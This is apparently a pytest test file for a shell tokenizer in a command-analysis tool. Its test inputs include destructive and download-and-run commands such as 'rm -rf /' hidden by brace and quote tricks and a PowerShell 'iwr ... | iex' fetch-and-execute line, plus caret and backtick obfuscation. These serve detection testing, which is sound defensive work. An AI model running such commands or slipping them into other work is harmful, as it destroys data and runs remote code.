"""Command lines that are split by quotes and separators alone."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmtrace.analyzers.actions.tokens import MAX_CHARS, read_tokens


def words(text: str, *, windows: bool = False) -> list[list[list[str]]]:
    return [
        [[word.text for word in simple.words] for stage in pipeline.stages for simple in stage]
        for pipeline in read_tokens(text, windows=windows).pipelines
    ]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a 'b c'; d", [[["a", "b c"]], [["d"]]]),
        ("a|b", [[["a"], ["b"]]]),
        ("if ( rm -rf /", [[["rm", "-rf", "/"]]]),
        ("{rm,-rf,/}", [[["rm", "-rf", "/"]]]),
        ("r''m \"x", [[["rm", "x"]]]),
        ("cat <<E\nrm -rf /\nE\nls", [[["cat"]], [["E"]], [["ls"]]]),
        ("sh <<E\nrm x\nE", [[["sh"]], [["rm", "x"]], [["E"]]]),
        ("", []),
        (";;|", []),
    ],
)
def test_posix(text: str, told: list[list[list[str]]]) -> None:
    assert words(text) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("iwr http://a.example/x | iex", [[["iwr", "http://a.example/x"], ["iex"]]]),
        ("i`e`x 'a b'", [[["iex", "a b"]]]),
        ("d^el /s C:\\x", [[["del", "/s", "C:\\x"]]]),
        ("IEX (New-Object Net.WebClient)", [[["IEX", "New-Object", "Net.WebClient"]]]),
        ("a & b && c", [[["a"]], [["b"]], [["c"]]]),
    ],
)
def test_windows(text: str, told: list[list[list[str]]]) -> None:
    assert words(text, windows=True) == told


def test_redirections() -> None:
    (pipeline,) = read_tokens("a > b").pipelines
    (redirect,) = pipeline.stages[0][0].redirects
    assert (redirect.operator, redirect.target.text) == (">", "b")


def test_length_is_bounded_and_told() -> None:
    assert not read_tokens("a " * MAX_CHARS).complete


@given(st.text(alphabet="ab'\"\\`^|&;<>(){}$ \n", max_size=80), st.booleans())
@settings(max_examples=100, deadline=None)
def test_no_text_raises(text: str, windows: bool) -> None:
    for pipeline in read_tokens(text, windows=windows).pipelines:
        assert 0 <= pipeline.start <= pipeline.end <= len(text)
